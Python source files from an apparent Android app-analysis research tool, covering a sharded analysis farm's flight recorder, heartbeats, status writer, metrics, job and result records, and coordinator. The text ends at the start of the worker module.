  *and* span records in a ring that is atomically rewritten to
  ``flight-<shard>.jsonl`` on every record.  Atomic rewrite (temp file +
  ``os.replace``) means the on-disk file always parses -- a SIGKILL can
  never tear a line -- and always holds the shard's final moments, so a
  timeout, retry storm, quarantine, or crash can be diagnosed from the
  dump alone instead of re-running the shard.  Shards that finish clean
  delete their file: a surviving ``flight-*.jsonl`` *is* the anomaly
  signal.
- **heartbeats + status** (both sides): workers atomically refresh
  ``heartbeat-<shard>.json`` after every app; the coordinator's
  :class:`StatusWriter` thread folds those into a periodically-rewritten
  ``status.json`` with per-shard progress and stall detection (a shard
  whose heartbeat goes silent past ``stall_after_s`` is flagged, which
  is how an operator -- or ``repro top`` -- spots a hung worker while
  the run is still going).
"""

from __future__ import annotations

import json
import os
import threading
import time
from typing import Any, Dict, List, Optional

from repro.observe.events import EventLog, load_events

__all__ = [
    "FlightRecorder",
    "StatusWriter",
    "flight_path",
    "heartbeat_path",
    "load_flight",
    "read_heartbeats",
    "write_heartbeat",
]

#: records kept in each shard's flight ring.
DEFAULT_FLIGHT_CAPACITY = 512


def flight_path(directory: str, shard_id: int) -> str:
    return os.path.join(directory, "flight-{}.jsonl".format(shard_id))


def heartbeat_path(directory: str, shard_id: int) -> str:
    return os.path.join(directory, "heartbeat-{}.json".format(shard_id))


class FlightRecorder:
    """One shard's crash-safe ring of recent events and spans."""

    def __init__(
        self, directory: str, shard_id: int, capacity: int = DEFAULT_FLIGHT_CAPACITY
    ) -> None:
        os.makedirs(directory, exist_ok=True)
        self.path = flight_path(directory, shard_id)
        self.shard_id = shard_id
        #: rewrite-mode sink: every emit atomically rewrites the ring, so
        #: the file is parseable at every instant of the shard's life.
        self.events = EventLog(capacity=capacity, sink=self.path, sink_mode="rewrite")
        #: a blocking verdict, retry, timeout, or quarantine marks the
        #: recording worth keeping after a clean shard exit.
        self.dirty = False

    def emit(self, name: str, level: str = "info", **fields: Any) -> None:
        if level in ("warn", "error"):
            self.dirty = True
        self.events.emit(name, level=level, **fields)

    def record_spans(self, spans: List[Dict[str, Any]]) -> None:
        """Fold finished span dicts into the ring as ``span`` records."""
        for span in spans:
            self.events.emit(
                "span",
                level="debug",
                name_=span["name"],
                span_id=span["span_id"],
                parent_id=span["parent_id"],
                ts=span["ts"],
                dur=span["dur"],
                attrs=span.get("attrs", {}),
            )

    def close(self, keep: Optional[bool] = None) -> None:
        """Finish the recording; delete the file unless it is worth keeping."""
        self.events.close()
        if keep is None:
            keep = self.dirty
        if not keep:
            try:
                os.unlink(self.path)
            except FileNotFoundError:
                pass


def load_flight(path: str) -> List[Dict[str, Any]]:
    """Read one flight recording (JSONL event records, torn-tail tolerant)."""
    return load_events(path)


# -- heartbeats ----------------------------------------------------------------


def write_heartbeat(
    directory: str,
    shard_id: int,
    completed: int,
    total: int,
    done: bool = False,
) -> None:
    """Atomically refresh one shard's heartbeat file."""
    os.makedirs(directory, exist_ok=True)
    path = heartbeat_path(directory, shard_id)
    tmp = "{}.tmp{}".format(path, os.getpid())
    payload = {
        "shard": shard_id,
        "completed": completed,
        "total": total,
        "done": done,
        "ts": round(time.time(), 6),
        "pid": os.getpid(),
    }
    with open(tmp, "w", encoding="utf-8") as handle:
        json.dump(payload, handle, sort_keys=True)
    os.replace(tmp, path)


def read_heartbeats(directory: str) -> Dict[int, Dict[str, Any]]:
    """All current ``heartbeat-*.json`` files, keyed by shard id."""
    heartbeats: Dict[int, Dict[str, Any]] = {}
    try:
        names = os.listdir(directory)
    except FileNotFoundError:
        return heartbeats
    for name in names:
        if not (name.startswith("heartbeat-") and name.endswith(".json")):
            continue
        try:
            with open(os.path.join(directory, name), "r", encoding="utf-8") as handle:
                payload = json.load(handle)
            heartbeats[int(payload["shard"])] = payload
        except (OSError, ValueError, KeyError):
            continue  # a heartbeat mid-replace on a non-atomic filesystem
    return heartbeats


# -- coordinator status --------------------------------------------------------


class StatusWriter:
    """A daemon thread refreshing ``status.json`` while the farm runs.

    The coordinator feeds it run-level progress (shards merged, apps
    settled, quarantines); worker heartbeats are read off disk each
    tick.  ``compose`` is a pure function of those inputs so stall
    detection is unit-testable without threads or sleeps.
    """

    def __init__(
        self,
        directory: str,
        n_apps: int,
        shards_planned: int,
        interval_s: float = 1.0,
        stall_after_s: float = 10.0,
    ) -> None:
        os.makedirs(directory, exist_ok=True)
        self.directory = directory
        self.path = os.path.join(directory, "status.json")
        self.n_apps = n_apps
        self.shards_planned = shards_planned
        self.interval_s = interval_s
        self.stall_after_s = stall_after_s
        self._progress: Dict[str, Any] = {
            "shards_done": 0,
            "apps_settled": 0,
            "apps_quarantined": 0,
            "state": "running",
        }
        self._started = time.time()
        self._lock = threading.Lock()
        self._stop = threading.Event()
        self._thread: Optional[threading.Thread] = None

    # -- coordinator-side updates ----------------------------------------------

    def update(self, **progress: Any) -> None:
        with self._lock:
            self._progress.update(progress)

    @staticmethod
    def compose(
        run: Dict[str, Any],
        heartbeats: Dict[int, Dict[str, Any]],
        now: float,
        stall_after_s: float,
    ) -> Dict[str, Any]:
        """Fold run progress + heartbeats into one status document."""
        shards: Dict[str, Dict[str, Any]] = {}
        stalled: List[int] = []
        for shard_id in sorted(heartbeats):
            beat = heartbeats[shard_id]
            silent_s = max(0.0, now - float(beat.get("ts", now)))
            state = "done" if beat.get("done") else "running"
            if state == "running" and silent_s > stall_after_s:
                state = "stalled"
                stalled.append(shard_id)
            shards[str(shard_id)] = {
                "completed": beat.get("completed", 0),
                "total": beat.get("total", 0),
                "last_heartbeat_ts": beat.get("ts"),
                "silent_s": round(silent_s, 3),
                "state": state,
            }
        return dict(run, shards=shards, stalled=stalled, updated_ts=round(now, 6))

    def write_once(self) -> Dict[str, Any]:
        now = time.time()
        with self._lock:
            run = dict(
                self._progress,
                n_apps=self.n_apps,
                shards_planned=self.shards_planned,
                started_ts=round(self._started, 6),
                uptime_s=round(now - self._started, 3),
            )
        status = self.compose(run, read_heartbeats(self.directory), now, self.stall_after_s)
        tmp = "{}.tmp{}".format(self.path, os.getpid())
        with open(tmp, "w", encoding="utf-8") as handle:
            json.dump(status, handle, indent=1, sort_keys=True)
            handle.write("\n")
        os.replace(tmp, self.path)
        return status

    # -- lifecycle -------------------------------------------------------------

    def start(self) -> "StatusWriter":
        self.write_once()
        self._thread = threading.Thread(
            target=self._loop, name="repro-farm-status", daemon=True
        )
        self._thread.start()
        return self

    def _loop(self) -> None:
        while not self._stop.wait(self.interval_s):
            try:
                self.write_once()
            except OSError:  # pragma: no cover - disk full mid-run
                pass

    def stop(self, state: str = "done") -> None:
        """Final refresh with a terminal state, then stop the thread."""
        self._stop.set()
        if self._thread is not None:
            self._thread.join(timeout=5.0)
        self.update(state=state)
        try:
            self.write_once()
        except OSError:  # pragma: no cover
            pass
