"""Farm run metrics: throughput, per-stage latency, failure accounting.

The collector lives in the coordinator and is backed by one
:class:`~repro.observe.metrics.MetricsRegistry`: workers ship their own
serialized registries (pipeline stage histograms, verdict-cache counters)
inside each :class:`~repro.farm.jobs.ShardResult`, and ``record_shard``
folds them in with order-independent merges, so the registry -- like the
merged report -- is identical for every worker count and completion
order.  ``to_dict`` is the structured JSON summary ``repro farm run
--metrics-out`` writes.

:class:`LatencyHistogram` moved to :mod:`repro.observe.metrics`;
importing it from here still works but emits a :class:`DeprecationWarning`
via module-level ``__getattr__`` (PEP 562).  The shim is scheduled for
removal in 2.0 -- new code should import
``from repro.observe.metrics import LatencyHistogram`` directly.
"""

from __future__ import annotations

import time
import warnings
from typing import Dict, Optional

from repro.observe.metrics import (
    MetricsRegistry,
    verdict_cache_summary,
    verdict_store_summary,
)

__all__ = ["FarmMetrics", "LatencyHistogram"]


def __getattr__(name: str):
    if name == "LatencyHistogram":
        warnings.warn(
            "repro.farm.metrics.LatencyHistogram is deprecated and this "
            "re-export will be removed in repro 2.0; use "
            "'from repro.observe.metrics import LatencyHistogram' instead",
            DeprecationWarning,
            stacklevel=2,
        )
        from repro.observe.metrics import LatencyHistogram

        return LatencyHistogram
    raise AttributeError(
        "module {!r} has no attribute {!r}".format(__name__, name)
    )


class FarmMetrics:
    """Accumulates one farm run's operational numbers."""

    def __init__(
        self,
        workers: int,
        shards_planned: int,
        registry: Optional[MetricsRegistry] = None,
    ) -> None:
        self.workers = workers
        self.shards_planned = shards_planned
        self.shards_run = 0
        self.apps_analyzed = 0
        self.apps_resumed = 0
        self.apps_quarantined = 0
        self.retries = 0
        self.registry = registry if registry is not None else MetricsRegistry()
        #: the coordinator-side views of the worker-recorded stage
        #: histograms (kept as attributes for existing callers).
        self.stage_latency = {
            "build": self.registry.histogram("stage.build"),
            "analyze": self.registry.histogram("stage.analyze"),
        }
        self._started: Optional[float] = None
        self.wall_s = 0.0

    # -- lifecycle -------------------------------------------------------------

    def start(self) -> None:
        self._started = time.perf_counter()

    def stop(self) -> None:
        if self._started is not None:
            self.wall_s = time.perf_counter() - self._started

    # -- recording -------------------------------------------------------------

    def record_resumed(self, n_apps: int, n_quarantined: int = 0) -> None:
        self.apps_resumed += n_apps
        self.apps_quarantined += n_quarantined

    def record_coordinator_quarantine(self) -> None:
        """An app lost to a dead worker process (no shard registry exists)."""
        self.apps_quarantined += 1
        self.registry.counter("farm.quarantined").inc()

    def record_shard(self, shard_result) -> None:
        self.shards_run += 1
        for app in shard_result.results:
            self.apps_analyzed += 1
            self.retries += app.retries
        for record in shard_result.quarantined:
            self.apps_quarantined += 1
            self.retries += record.attempts - 1
        if shard_result.metrics:
            self.registry.merge_dict(shard_result.metrics)
        else:
            # Hand-built ShardResult (tests, external callers) without a
            # shipped registry: fall back to the per-app timing fields.
            for app in shard_result.results:
                self.stage_latency["build"].record(app.build_s)
                self.stage_latency["analyze"].record(app.analyze_s)

    # -- export ----------------------------------------------------------------

    @property
    def apps_per_second(self) -> float:
        return self.apps_analyzed / self.wall_s if self.wall_s else 0.0

    def to_dict(self) -> Dict[str, object]:
        return {
            "workers": self.workers,
            "shards_planned": self.shards_planned,
            "shards_run": self.shards_run,
            "apps_analyzed": self.apps_analyzed,
            "apps_resumed": self.apps_resumed,
            "apps_quarantined": self.apps_quarantined,
            "retries": self.retries,
            "wall_s": round(self.wall_s, 6),
            "apps_per_second": round(self.apps_per_second, 3),
            "stage_latency": {
                stage: histogram.to_dict()
                for stage, histogram in self.stage_latency.items()
            },
            "verdict_cache": verdict_cache_summary(self.registry),
            "verdict_store": verdict_store_summary(self.registry),
            "registry": self.registry.to_dict(),
        }

    def summary_line(self) -> str:
        return (
            "[farm: {} apps in {:.1f}s ({:.1f} apps/s), {} resumed, "
            "{} retries, {} quarantined, {} shards x {} workers]".format(
                self.apps_analyzed,
                self.wall_s,
                self.apps_per_second,
                self.apps_resumed,
                self.retries,
                self.apps_quarantined,
                self.shards_run,
                self.workers,
            )
        )
