"""Farm run metrics: throughput, per-stage latency, failure accounting.

The collector lives in the coordinator; workers only ship raw per-app
timings (corpus assembly vs analysis) inside their results.  ``to_dict``
is the structured JSON summary ``repro farm run --metrics-out`` writes.
"""

from __future__ import annotations

import time
from typing import Dict, List, Optional

#: 1-2-5 bucket ladder from 1ms to 100s (seconds); +inf is implicit.
_BUCKET_BOUNDS = (
    0.001, 0.002, 0.005, 0.01, 0.02, 0.05, 0.1, 0.2, 0.5,
    1.0, 2.0, 5.0, 10.0, 20.0, 50.0, 100.0,
)


class LatencyHistogram:
    """Fixed-bucket latency histogram with exact summary stats."""

    def __init__(self) -> None:
        self.counts = [0] * (len(_BUCKET_BOUNDS) + 1)
        self.count = 0
        self.total_s = 0.0
        self.max_s = 0.0

    def record(self, seconds: float) -> None:
        self.count += 1
        self.total_s += seconds
        self.max_s = max(self.max_s, seconds)
        for position, bound in enumerate(_BUCKET_BOUNDS):
            if seconds <= bound:
                self.counts[position] += 1
                return
        self.counts[-1] += 1

    def to_dict(self) -> Dict[str, object]:
        buckets = {
            "le_{:g}s".format(bound): count
            for bound, count in zip(_BUCKET_BOUNDS, self.counts)
        }
        buckets["le_inf"] = self.counts[-1]
        return {
            "count": self.count,
            "total_s": round(self.total_s, 6),
            "mean_s": round(self.total_s / self.count, 6) if self.count else 0.0,
            "max_s": round(self.max_s, 6),
            "buckets": buckets,
        }


class FarmMetrics:
    """Accumulates one farm run's operational numbers."""

    def __init__(self, workers: int, shards_planned: int) -> None:
        self.workers = workers
        self.shards_planned = shards_planned
        self.shards_run = 0
        self.apps_analyzed = 0
        self.apps_resumed = 0
        self.apps_quarantined = 0
        self.retries = 0
        self.stage_latency = {"build": LatencyHistogram(), "analyze": LatencyHistogram()}
        self._started: Optional[float] = None
        self.wall_s = 0.0

    # -- lifecycle -------------------------------------------------------------

    def start(self) -> None:
        self._started = time.perf_counter()

    def stop(self) -> None:
        if self._started is not None:
            self.wall_s = time.perf_counter() - self._started

    # -- recording -------------------------------------------------------------

    def record_resumed(self, n_apps: int, n_quarantined: int = 0) -> None:
        self.apps_resumed += n_apps
        self.apps_quarantined += n_quarantined

    def record_shard(self, shard_result) -> None:
        self.shards_run += 1
        for app in shard_result.results:
            self.apps_analyzed += 1
            self.retries += app.retries
            self.stage_latency["build"].record(app.build_s)
            self.stage_latency["analyze"].record(app.analyze_s)
        for record in shard_result.quarantined:
            self.apps_quarantined += 1
            self.retries += record.attempts - 1

    # -- export ----------------------------------------------------------------

    @property
    def apps_per_second(self) -> float:
        return self.apps_analyzed / self.wall_s if self.wall_s else 0.0

    def to_dict(self) -> Dict[str, object]:
        return {
            "workers": self.workers,
            "shards_planned": self.shards_planned,
            "shards_run": self.shards_run,
            "apps_analyzed": self.apps_analyzed,
            "apps_resumed": self.apps_resumed,
            "apps_quarantined": self.apps_quarantined,
            "retries": self.retries,
            "wall_s": round(self.wall_s, 6),
            "apps_per_second": round(self.apps_per_second, 3),
            "stage_latency": {
                stage: histogram.to_dict()
                for stage, histogram in self.stage_latency.items()
            },
        }

    def summary_line(self) -> str:
        return (
            "[farm: {} apps in {:.1f}s ({:.1f} apps/s), {} resumed, "
            "{} retries, {} quarantined, {} shards x {} workers]".format(
                self.apps_analyzed,
                self.wall_s,
                self.apps_per_second,
                self.apps_resumed,
                self.retries,
                self.apps_quarantined,
                self.shards_run,
                self.workers,
            )
        )
