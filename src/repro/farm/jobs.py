"""Job and result records shipped between the coordinator and workers.

Everything here is plain-data and picklable; crucially, a :class:`ShardJob`
carries *no* APK objects -- workers regenerate their slice of the corpus
from ``(corpus_seed, n_apps, indices)``, which keeps job payloads tiny and
makes every shard independently re-runnable.

The same property makes jobs *wire-able*: the ``*_to_wire`` /
``*_from_wire`` pairs below round-trip jobs and results through plain
JSON for the network farm (:mod:`repro.farm.netcoord`), where workers on
other hosts lease shards over HTTP instead of receiving pickles.  The
round trip is exact -- a reconstructed config ``repr``-matches the
original, so :func:`run_fingerprint` computed on either side agrees,
which is how a joining worker proves it is analyzing the same run.
"""

from __future__ import annotations

import hashlib
from dataclasses import asdict, dataclass, field, replace
from typing import Dict, List, Optional, Tuple

from repro.core.config import DyDroidConfig, EnvironmentConfig


@dataclass(frozen=True)
class ChaosSpec:
    """Deterministic fault injection, for tests and resilience drills.

    ``fail_packages`` raise on their first ``fail_attempts`` analysis
    attempts (``fail_attempts >= max_retries + 1`` forces quarantine);
    ``slow_packages`` sleep ``slow_s`` seconds per attempt so per-app
    timeouts can be exercised without a genuinely slow app.
    """

    fail_packages: Tuple[str, ...] = ()
    fail_attempts: int = 0
    slow_packages: Tuple[str, ...] = ()
    slow_s: float = 0.0

    @property
    def active(self) -> bool:
        return bool(self.fail_packages or self.slow_packages)


@dataclass(frozen=True)
class ShardJob:
    """One schedulable unit: analyze ``indices`` of the seeded corpus."""

    shard_id: int
    corpus_seed: int
    n_apps: int
    indices: Tuple[int, ...]
    config: DyDroidConfig
    timeout_s: Optional[float] = None
    max_retries: int = 2
    backoff_s: float = 0.05
    chaos: ChaosSpec = field(default_factory=ChaosSpec)
    #: collect spans in the worker and ship them back for trace export
    #: (the metrics registry is always collected; spans are opt-in).
    trace: bool = False
    #: shared verdict-store path: every shard opens the same file, so a
    #: payload digest analyzed by any shard is reused by all others.
    verdict_store: Optional[str] = None
    #: directory for live telemetry (``flight-<shard>.jsonl`` ring dumps
    #: and ``heartbeat-<shard>.json``); None disables both.
    flight_dir: Optional[str] = None


@dataclass
class AppResult:
    """One successfully analyzed app, already in serialized (JSON) form."""

    index: int
    package: str
    analysis: Dict[str, object]
    retries: int = 0
    build_s: float = 0.0
    analyze_s: float = 0.0


@dataclass
class QuarantineRecord:
    """An app that exhausted its retries; excluded from the merged report."""

    index: int
    package: str
    error: str
    attempts: int


@dataclass
class ShardResult:
    """Everything one worker produced for one shard."""

    shard_id: int
    results: List[AppResult] = field(default_factory=list)
    quarantined: List[QuarantineRecord] = field(default_factory=list)
    wall_s: float = 0.0
    #: serialized span dicts (``Tracer.to_dicts``), empty unless tracing.
    spans: List[Dict[str, object]] = field(default_factory=list)
    #: serialized worker registry (``MetricsRegistry.to_dict``).
    metrics: Dict[str, object] = field(default_factory=dict)


def with_indices(job: ShardJob, indices: Tuple[int, ...]) -> ShardJob:
    """The same job narrowed to a subset of its corpus indices.

    Used when isolating poison: a shard whose worker died is re-dispatched
    one app at a time so a single bad app cannot take siblings down with
    it (both the local process farm and the network ledger reuse this).
    """
    return replace(job, indices=tuple(indices))


# -- wire format (network farm) ----------------------------------------------------


def config_to_wire(config: DyDroidConfig) -> Dict[str, object]:
    """A :class:`DyDroidConfig` as a JSON-able dict (tuples become lists)."""
    return asdict(config)


def config_from_wire(data: Dict[str, object]) -> DyDroidConfig:
    data = dict(data)
    data["replay_configs"] = tuple(
        EnvironmentConfig(**dict(env)) for env in data.get("replay_configs") or ()
    )
    return DyDroidConfig(**data)


def chaos_to_wire(chaos: ChaosSpec) -> Dict[str, object]:
    return asdict(chaos)


def chaos_from_wire(data: Dict[str, object]) -> ChaosSpec:
    data = dict(data)
    data["fail_packages"] = tuple(data.get("fail_packages") or ())
    data["slow_packages"] = tuple(data.get("slow_packages") or ())
    return ChaosSpec(**data)


def shard_job_to_wire(job: ShardJob) -> Dict[str, object]:
    data = asdict(job)
    data["config"] = config_to_wire(job.config)
    data["chaos"] = chaos_to_wire(job.chaos)
    return data


def shard_job_from_wire(data: Dict[str, object]) -> ShardJob:
    data = dict(data)
    data["indices"] = tuple(data.get("indices") or ())
    data["config"] = config_from_wire(data["config"])
    data["chaos"] = chaos_from_wire(data.get("chaos") or {})
    return ShardJob(**data)


def shard_result_to_wire(result: ShardResult) -> Dict[str, object]:
    return {
        "shard_id": result.shard_id,
        "results": [asdict(app) for app in result.results],
        "quarantined": [asdict(rec) for rec in result.quarantined],
        "wall_s": result.wall_s,
        "spans": result.spans,
        "metrics": result.metrics,
    }


def shard_result_from_wire(data: Dict[str, object]) -> ShardResult:
    return ShardResult(
        shard_id=data["shard_id"],
        results=[AppResult(**dict(app)) for app in data.get("results") or []],
        quarantined=[
            QuarantineRecord(**dict(rec)) for rec in data.get("quarantined") or []
        ],
        wall_s=data.get("wall_s", 0.0),
        spans=list(data.get("spans") or []),
        metrics=dict(data.get("metrics") or {}),
    )


def run_fingerprint(corpus_seed: int, n_apps: int, config: DyDroidConfig) -> str:
    """Stable identity of a run's inputs, stored in the checkpoint header.

    A journal written for one ``(seed, n_apps, config)`` must never be
    resumed against another -- the per-app results would silently disagree
    with the corpus being merged.
    """
    raw = repr((corpus_seed, n_apps, config)).encode()
    return hashlib.sha256(raw).hexdigest()[:16]
