"""Job and result records shipped between the coordinator and workers.

Everything here is plain-data and picklable; crucially, a :class:`ShardJob`
carries *no* APK objects -- workers regenerate their slice of the corpus
from ``(corpus_seed, n_apps, indices)``, which keeps job payloads tiny and
makes every shard independently re-runnable.
"""

from __future__ import annotations

import hashlib
from dataclasses import dataclass, field
from typing import Dict, List, Optional, Tuple

from repro.core.config import DyDroidConfig


@dataclass(frozen=True)
class ChaosSpec:
    """Deterministic fault injection, for tests and resilience drills.

    ``fail_packages`` raise on their first ``fail_attempts`` analysis
    attempts (``fail_attempts >= max_retries + 1`` forces quarantine);
    ``slow_packages`` sleep ``slow_s`` seconds per attempt so per-app
    timeouts can be exercised without a genuinely slow app.
    """

    fail_packages: Tuple[str, ...] = ()
    fail_attempts: int = 0
    slow_packages: Tuple[str, ...] = ()
    slow_s: float = 0.0

    @property
    def active(self) -> bool:
        return bool(self.fail_packages or self.slow_packages)


@dataclass(frozen=True)
class ShardJob:
    """One schedulable unit: analyze ``indices`` of the seeded corpus."""

    shard_id: int
    corpus_seed: int
    n_apps: int
    indices: Tuple[int, ...]
    config: DyDroidConfig
    timeout_s: Optional[float] = None
    max_retries: int = 2
    backoff_s: float = 0.05
    chaos: ChaosSpec = field(default_factory=ChaosSpec)
    #: collect spans in the worker and ship them back for trace export
    #: (the metrics registry is always collected; spans are opt-in).
    trace: bool = False
    #: shared verdict-store path: every shard opens the same file, so a
    #: payload digest analyzed by any shard is reused by all others.
    verdict_store: Optional[str] = None
    #: directory for live telemetry (``flight-<shard>.jsonl`` ring dumps
    #: and ``heartbeat-<shard>.json``); None disables both.
    flight_dir: Optional[str] = None


@dataclass
class AppResult:
    """One successfully analyzed app, already in serialized (JSON) form."""

    index: int
    package: str
    analysis: Dict[str, object]
    retries: int = 0
    build_s: float = 0.0
    analyze_s: float = 0.0


@dataclass
class QuarantineRecord:
    """An app that exhausted its retries; excluded from the merged report."""

    index: int
    package: str
    error: str
    attempts: int


@dataclass
class ShardResult:
    """Everything one worker produced for one shard."""

    shard_id: int
    results: List[AppResult] = field(default_factory=list)
    quarantined: List[QuarantineRecord] = field(default_factory=list)
    wall_s: float = 0.0
    #: serialized span dicts (``Tracer.to_dicts``), empty unless tracing.
    spans: List[Dict[str, object]] = field(default_factory=list)
    #: serialized worker registry (``MetricsRegistry.to_dict``).
    metrics: Dict[str, object] = field(default_factory=dict)


def run_fingerprint(corpus_seed: int, n_apps: int, config: DyDroidConfig) -> str:
    """Stable identity of a run's inputs, stored in the checkpoint header.

    A journal written for one ``(seed, n_apps, config)`` must never be
    resumed against another -- the per-app results would silently disagree
    with the corpus being merged.
    """
    raw = repr((corpus_seed, n_apps, config)).encode()
    return hashlib.sha256(raw).hexdigest()[:16]
