"""The farm coordinator: plan, dispatch, journal, merge, measure.

``run_farm`` is the corpus-scale counterpart of ``DyDroid.measure``::

    from repro.farm import FarmConfig, run_farm

    result = run_farm(FarmConfig(n_apps=600, corpus_seed=7, workers=4))
    print(result.report.render_dynamic_summary())
    print(result.metrics["apps_per_second"])

Flow: deterministically shard the corpus -> (optionally) restore settled
apps from the checkpoint journal -> dispatch the remaining shards to the
executor -> journal every settled app as its shard completes -> merge all
per-app results, ordered by corpus index, into one
:class:`MeasurementReport` that renders byte-identically to the serial run.

A worker process dying (OOM kill, segfault) surfaces as a failed shard
future; its apps are re-dispatched in single-app shards so one poisonous
app cannot take siblings down with it a second time -- per-app failures
inside a healthy worker are already retried/quarantined by the worker
itself.
"""

from __future__ import annotations

import os
from concurrent.futures import as_completed
from dataclasses import dataclass, field
from typing import Dict, List, Optional, Tuple

from repro.core.config import DyDroidConfig
from repro.core.report import MeasurementReport
from repro.farm.checkpoint import CheckpointJournal
from repro.farm.executors import create_executor
from repro.farm.flight import StatusWriter
from repro.farm.jobs import (
    ChaosSpec,
    QuarantineRecord,
    ShardJob,
    ShardResult,
    with_indices,
)
from repro.farm.merger import merge_serialized
from repro.farm.metrics import FarmMetrics
from repro.farm.shards import plan_shards
from repro.farm.worker import run_shard
from repro.observe.merge import merge_span_lists
from repro.store.verdicts import VerdictStore


@dataclass
class FarmConfig:
    """One farm run: corpus identity, scheduling knobs, fault tolerance."""

    n_apps: int
    corpus_seed: int = 7
    workers: int = 2
    #: shard count; default is 4x workers so a slow shard cannot starve
    #: the pool for long.
    n_shards: Optional[int] = None
    shard_strategy: str = "contiguous"
    #: per-app analysis deadline in seconds (None: no deadline).
    timeout_s: Optional[float] = None
    max_retries: int = 2
    backoff_s: float = 0.05
    checkpoint: Optional[str] = None
    resume: bool = False
    pipeline: DyDroidConfig = field(default_factory=DyDroidConfig)
    chaos: ChaosSpec = field(default_factory=ChaosSpec)
    #: collect spans in every worker and merge them into ``FarmResult.spans``
    #: (for ``--trace-out``); the metrics registry is collected regardless.
    trace: bool = False
    #: shared verdict-store path (tier 2 behind every worker's LRU): each
    #: distinct payload digest is analyzed once fleet-wide, and a warm
    #: store makes re-runs skip DroidNative/FlowDroid entirely.
    verdict_store: Optional[str] = None
    #: live-telemetry directory: workers drop flight recordings and
    #: heartbeats there, the coordinator refreshes ``status.json``.
    #: Defaults to the checkpoint journal's directory when one is set.
    telemetry_dir: Optional[str] = None
    #: ``status.json`` refresh cadence.
    status_interval_s: float = 1.0
    #: a running shard silent longer than this is flagged as stalled.
    stall_after_s: float = 10.0

    def planned_shards(self) -> int:
        return self.n_shards if self.n_shards else max(1, self.workers * 4)

    def effective_telemetry_dir(self) -> Optional[str]:
        if self.telemetry_dir:
            return self.telemetry_dir
        if self.checkpoint:
            return os.path.dirname(os.path.abspath(self.checkpoint))
        return None


@dataclass
class FarmResult:
    """What a farm run returns: the merged report plus operational data."""

    report: MeasurementReport
    metrics: Dict[str, object]
    quarantined: List[QuarantineRecord] = field(default_factory=list)
    resumed_apps: int = 0
    #: merged span dicts (shard-ordered, re-identified), empty unless
    #: the run was started with ``trace=True``.
    spans: List[Dict[str, object]] = field(default_factory=list)


def build_shard_jobs(config: FarmConfig, shards, skip) -> List[ShardJob]:
    """Jobs for every shard that still has unsettled indices.

    Shared by the in-process pool below and the network coordinator
    (:mod:`repro.farm.netcoord`), so both dispatch identical work units.
    """
    jobs = []
    flight_dir = config.effective_telemetry_dir()
    for shard in shards:
        indices = tuple(i for i in shard.indices if i not in skip)
        if not indices:
            continue
        jobs.append(
            ShardJob(
                shard_id=shard.shard_id,
                corpus_seed=config.corpus_seed,
                n_apps=config.n_apps,
                indices=indices,
                config=config.pipeline,
                timeout_s=config.timeout_s,
                max_retries=config.max_retries,
                backoff_s=config.backoff_s,
                chaos=config.chaos,
                trace=config.trace,
                verdict_store=config.verdict_store,
                flight_dir=flight_dir,
            )
        )
    return jobs


def run_farm(config: FarmConfig) -> FarmResult:
    """Execute one sharded, checkpointed, metered measurement run."""
    if config.resume and not config.checkpoint:
        raise ValueError("resume requires a checkpoint path")
    if config.verdict_store:
        # Fail fast on a fingerprint mismatch here, in the coordinator:
        # workers hitting it mid-run would surface as quarantined apps
        # instead of a usable error.
        VerdictStore(config.verdict_store, config.pipeline).close()

    shards = plan_shards(config.n_apps, config.planned_shards(), config.shard_strategy)
    metrics = FarmMetrics(workers=config.workers, shards_planned=len(shards))
    metrics.start()

    journal: Optional[CheckpointJournal] = None
    analyses: Dict[int, Dict[str, object]] = {}
    quarantined: List[QuarantineRecord] = []
    resumed_apps = 0
    if config.checkpoint:
        journal = CheckpointJournal(
            config.checkpoint,
            corpus_seed=config.corpus_seed,
            n_apps=config.n_apps,
            config=config.pipeline,
            resume=config.resume,
        )
        analyses.update(journal.completed)
        for entry in journal.quarantined.values():
            quarantined.append(
                QuarantineRecord(
                    index=entry["index"],
                    package=entry["package"],
                    error=entry["error"],
                    attempts=entry["attempts"],
                )
            )
        resumed_apps = len(journal.completed)
        metrics.record_resumed(resumed_apps, len(journal.quarantined))

    skip = journal.settled_indices() if journal else set()
    jobs = build_shard_jobs(config, shards, skip)
    shard_spans: List[Tuple[int, List[Dict[str, object]]]] = []

    telemetry_dir = config.effective_telemetry_dir()
    status: Optional[StatusWriter] = None
    if telemetry_dir:
        status = StatusWriter(
            telemetry_dir,
            n_apps=config.n_apps,
            shards_planned=len(shards),
            interval_s=config.status_interval_s,
            stall_after_s=config.stall_after_s,
        )
        status.update(
            apps_settled=len(analyses) + len(quarantined),
            apps_quarantined=len(quarantined),
        )
        status.start()
    shards_done = 0

    try:
        with create_executor(config.workers) as executor:
            pending = {executor.submit(run_shard, job): job for job in jobs}
            while pending:
                retry_jobs: List[ShardJob] = []
                for future in as_completed(list(pending)):
                    job = pending.pop(future)
                    try:
                        shard_result: ShardResult = future.result()
                    except Exception:
                        # The worker process itself died (not a per-app
                        # failure).  Re-dispatch each app alone so the
                        # culprit quarantines itself next round.
                        if len(job.indices) == 1:
                            record = QuarantineRecord(
                                index=job.indices[0],
                                package="<corpus index {}>".format(job.indices[0]),
                                error="worker process died",
                                attempts=1,
                            )
                            quarantined.append(record)
                            if journal:
                                journal.append_quarantine(record)
                            metrics.record_coordinator_quarantine()
                            continue
                        retry_jobs.extend(
                            with_indices(job, (index,)) for index in job.indices
                        )
                        continue
                    metrics.record_shard(shard_result)
                    shards_done += 1
                    if shard_result.spans:
                        shard_spans.append((shard_result.shard_id, shard_result.spans))
                    for app_result in shard_result.results:
                        analyses[app_result.index] = app_result.analysis
                        if journal:
                            journal.append_result(app_result)
                    for record in shard_result.quarantined:
                        quarantined.append(record)
                        if journal:
                            journal.append_quarantine(record)
                    if status is not None:
                        status.update(
                            shards_done=shards_done,
                            apps_settled=len(analyses) + len(quarantined),
                            apps_quarantined=len(quarantined),
                        )
                for job in retry_jobs:
                    pending[executor.submit(run_shard, job)] = job
    finally:
        if status is not None:
            status.update(shards_done=shards_done)
            status.stop(state="done")
        if journal:
            journal.close()

    report = merge_serialized(analyses)
    metrics.stop()
    return FarmResult(
        report=report,
        metrics=metrics.to_dict(),
        quarantined=sorted(quarantined, key=lambda record: record.index),
        resumed_apps=resumed_apps,
        spans=merge_span_lists(shard_spans),
    )
