"""The per-shard worker: crash-isolated, timeout-bounded app analysis.

``run_shard`` is a top-level function so :class:`ProcessPoolExecutor` can
ship it to a child process.  Within a shard each app gets:

- a **deadline** (``timeout_s``) enforced with ``SIGALRM`` where available
